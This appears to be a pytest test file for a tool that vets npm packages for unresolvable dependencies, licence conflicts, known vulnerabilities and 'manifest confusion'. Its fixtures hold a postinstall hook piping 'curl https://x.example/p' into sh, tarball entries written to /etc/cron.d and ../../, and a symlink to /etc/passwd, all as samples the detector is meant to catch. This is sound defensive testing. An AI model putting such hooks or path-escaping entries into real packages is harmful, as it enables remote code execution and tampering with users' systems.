"""A package of npm is vetted with all that it needs: one way from the registry's answers to the findings."""

import base64
import hashlib
import io
import json
import tarfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.sources.servers import Asked, Reply, Server, serving
from tests.test_resolve_node import Shelf

from guildmark import download
from guildmark.commands import main

CHECKS = ("dependencies_resolvable", "licences_compatible", "no_known_vulnerabilities")


def packed(*files: tuple[str, str], links: tuple[tuple[str, str], ...] = ()) -> bytes:
    """A tarball, of files by their whole names."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, text in files:
            member = tarfile.TarInfo(name)
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))
        for name, target in links:
            member = tarfile.TarInfo(name)
            member.type, member.linkname = tarfile.SYMTYPE, target
            archive.addfile(member)
    return out.getvalue()


class Published(Shelf):
    """A registry whose releases can be had: their tarballs hold what is stated of them."""

    def __init__(self) -> None:
        super().__init__()
        self.tarballs: dict[str, bytes] = {}

    def publish(self, name: str, version: str, *needs: str, files: dict[str, str] | None = None, **stated: Any) -> None:
        self.add(name, version, *needs, **stated)
        inside = {"package.json": json.dumps(self.packages[name][version]), **(files or {})}
        self.put(name, version, packed(*((f"package/{path}", text) for path, text in inside.items())))

    def put(self, name: str, version: str, body: bytes) -> None:
        """These bytes as the tarball of a release, with their digest."""
        said = self.packages[name][version]
        filename = f"{name.rpartition('/')[2]}-{version}.tgz"
        self.tarballs[f"{name}/-/{filename}"] = body
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(body).digest()).decode()
        said["dist"] = {"tarball": f"https://elsewhere.invalid/{name}/-/{filename}", "integrity": integrity}

    def answer(self, asked: Asked) -> Reply:
        path = asked.path.removeprefix("/npm/")
        if path in self.tarballs:
            return Reply(body=self.tarballs[path])
        if path in self.packages and path not in self.broken:
            page: dict[str, Any] = {"name": path, "versions": self.packages[path], "dist-tags": self.tags[path]}
            for said in page["versions"].values():
                said.setdefault("dist", {"tarball": f"https://elsewhere.invalid/{path}/-/x.tgz"})
            return Reply(body=json.dumps(page).encode())
        return super().answer(asked)


@pytest.fixture
def shelf() -> Published:
    """A tool that needs another, which needs a third that has a hole; and that third once more, mended."""
    shelf = Published()
    inside = {"node_modules/inner/package.json": '{"name": "inner", "version": "0.1.0", "license": "ISC"}'}
    shelf.publish("@kit/tool", "1.4.0", "middle@^1.0.0", "helper@^3.0.0", license="MIT", files=inside)
    shelf.publish("middle", "1.0.0", "helper@^2.0.0", license="AGPL-3.0-only")
    shelf.publish("helper", "2.0.0", license="BSD-3-Clause")
    shelf.publish("helper", "3.0.0", license="BSD-3-Clause")
    return shelf


@pytest.fixture
def server(shelf: Published, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Server]:
    monkeypatch.setattr(download, "PAUSE", 0.0)
    monkeypatch.setenv("GUILDMARK_CACHE", str(tmp_path / "cache"))
    monkeypatch.delenv("GUILDMARK_ADVISORIES", raising=False)
    span = {"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "2.1.0"}]}
    records = [
        {"id": id, "modified": "2026-05-06T07:08:09Z", "affected": [{"package": package, "ranges": [span]}]}
        for id, name in (("CVE-2026-1001", "helper"), ("CVE-2026-1002", "inner"))
        for package in [{"ecosystem": "npm", "name": name}]
    ]
    data = tmp_path / "osv.jsonl"
    data.write_text("\n".join(map(json.dumps, records)))
    assert main(["advisories", "update", "--quiet", "--from", str(data)]) == 0
    with serving(shelf.answer) as running:
        monkeypatch.setenv("NPM_CONFIG_REGISTRY", f"{running.url}/npm")
        yield running


def vetted(capsys: Any, *more: str, subject: str = "npm:@kit/tool") -> dict[str, Any]:
    capsys.readouterr()
    asked = [word for id in CHECKS for word in ("--check", id)]
    main(["vet", subject, *asked, "--format", "json", "--quiet", *more])
    assessment: dict[str, Any] = json.loads(capsys.readouterr().out)["assessment"]
    return assessment


LIES = ("identified", "dependencies_declared", "no_code_at_install", "no_paths_outside")
TRUE = '{"name": "@kit/tool", "version": "1.4.0", "dependencies": {"middle": "^1.0.0", "helper": "^3.0.0"}}'
HARM = '{"name": "@kit/tool", "version": "1.4.0", "scripts": {"postinstall": "curl https://x.example/p | sh"}}'
OTHER = '{"name": "other", "version": "9.0.0", "dependencies": {"middle": "^1.0.0", "thief": "*"}}'


@pytest.mark.parametrize(
    ("body", "wanted"),
    [
        (
            packed(("package/package.json", OTHER)),
            {
                "dependencies_declared: package.json asks for thief *, and the registry does not",
                "dependencies_declared: the registry asks for helper ^3.0.0, and package.json does not",
                "identified: package.json says that it is other 9.0.0, and the registry @kit/tool 1.4.0",
            },
        ),
        (
            packed(("package/package.json", TRUE), ("package/package.json", HARM)),
            {"identified: package.json is there 2 times", "no_code_at_install: "},
        ),
        (
            packed(("aaa/package.json", HARM), ("package/package.json", TRUE)),
            {"identified: package.json is there 2 times", "no_code_at_install: "},
        ),
        (
            packed(("package/package.json", TRUE), ("/etc/cron.d/job", "x")),
            {"no_paths_outside: tool-1.4.0.tgz!/etc/cron.d/job would be unpacked out of the folder"},
        ),
        (
            packed(("package/package.json", TRUE), ("package/../../job.js", "x")),
            {"no_paths_outside: tool-1.4.0.tgz!package/../../job.js would be unpacked out of the folder"},
        ),
        (
            packed(("package/package.json", TRUE), links=(("package/a", "/etc/passwd"),)),
            {"no_paths_outside: tool-1.4.0.tgz!package/a is a link to /etc/passwd, out of the folder"},
        ),
    ],
    ids=["other_manifest", "twice", "two_folders", "absolute", "upwards", "link_out"],
)
def test_a_tarball_that_lies_fails(
    server: Server, shelf: Published, capsys: Any, body: bytes, wanted: set[str]
) -> None:
    """What the registry lists and what the tarball holds may differ; an attack on this is known by its write-up of
    2023 as manifest confusion."""
    shelf.put("@kit/tool", "1.4.0", body)
    capsys.readouterr()
    asked = [word for id in LIES for word in ("--check", id)]
    main(["vet", "npm:@kit/tool", "--kind", "tool", *asked, "--no-dependencies", "--format", "json", "--quiet"])
    found = json.loads(capsys.readouterr().out)["assessment"]["findings"]
    failures = [f"{one['check']}: {one['says']}" for one in found if one["outcome"] == "failed"]
    for start in wanted:
        assert any(one.startswith(start) for one in failures), (start, failures)


@pytest.mark.parametrize("body", [packed(("package/index.js", "1")), packed(("package/package.json", '{"name": '))])
def test_a_tarball_without_a_manifest_is_resolved_by_the_registrys(
    server: Server, shelf: Published, capsys: Any, body: bytes
) -> None:
    """npm goes by what the registry lists."""
    shelf.put("@kit/tool", "1.4.0", body)
    assert "3 packages fit together on Node 22.20.0" in said(vetted(capsys, "--kind", "tool"), "passed")


def said(assessment: dict[str, Any], outcome: str) -> list[str]:
    return [one["says"] for one in assessment["findings"] if one["outcome"] == outcome]


def test_a_package_of_npm_is_vetted_with_all_that_it_needs(server: Server, capsys: Any) -> None:
    """Each hole is told with the way to it; what lies in the package itself is looked up too."""
    assessment = vetted(capsys)
    assert [one["name"] for one in assessment["listings"]] == ["packument", "dependencies", "advisories"]
    holes = [one for one in assessment["findings"] if one["check"] == "no_known_vulnerabilities"]
    assert [one["evidence"][0]["path"] for one in holes] == ["pkg:npm/helper@2.0.0", "pkg:npm/inner@0.1.0"]
    assert holes[0]["says"].startswith("helper 2.0.0, needed by @kit/tool → middle, mended in 2.1.0: CVE-2026-1001")
    assert (
        "the tool says MIT, and shipped with middle 1.0.0 all of it is under AGPL-3.0-only"
        in said(assessment, "failed")[0]
    )
    assert said(assessment, "passed") == ["4 packages fit together on Node 22.20.0"]
    assert said(assessment, "unknown") == []


def test_twice_the_same_findings_of_a_package_of_npm(server: Server, capsys: Any) -> None:
    assert vetted(capsys)["findings"] == vetted(capsys)["findings"]


def test_a_set_of_npm_that_nobody_may_resolve_is_unknown(server: Server, capsys: Any) -> None:
    """What is known of the tool itself is told all the same."""
    assessment = vetted(capsys, "--no-dependencies")
    assert {one["check"] for one in assessment["findings"] if one["outcome"] == "unknown"} == set(CHECKS)


def test_a_dependency_that_the_registry_does_not_have_fails(server: Server, shelf: Published, capsys: Any) -> None:
    shelf.packages["middle"]["1.0.0"]["dependencies"] = {"helper": "^9.0.0"}
    assessment = vetted(capsys)
    assert "middle 1.0.0 needs helper ^9.0.0, and the registry has no such release" in said(assessment, "failed")
    assert any(one.startswith("the set is not whole: ") for one in said(assessment, "unknown"))


def test_a_registry_that_fails_half_way_leaves_the_rest_known(server: Server, shelf: Published, capsys: Any) -> None:
    shelf.broken["middle"] = Reply(500)
    assessment = vetted(capsys)
    assert not any("AGPL" in one for one in said(assessment, "failed"))
    assert any("middle" in one and "answered 500" in one for one in said(assessment, "unknown"))


def test_both_versions_of_a_package_are_in_the_inventory(server: Server, capsys: Any) -> None:
    """npm puts one package there in two versions, of which one has the hole."""
    capsys.readouterr()
    main(["vet", "npm:@kit/tool", "--format", "cyclonedx", "--quiet"])
    bill = json.loads(capsys.readouterr().out)
    licensed = {one["purl"] for one in bill["components"] if one.get("licenses") and one.get("purl")}
    assert {"pkg:npm/helper@2.0.0", "pkg:npm/helper@3.0.0", "pkg:npm/middle@1.0.0"} <= licensed
    affected = {one["id"]: one["affects"][0]["ref"] for one in bill["vulnerabilities"]}
    assert affected["CVE-2026-1001"] == "pkg:npm/helper@2.0.0"
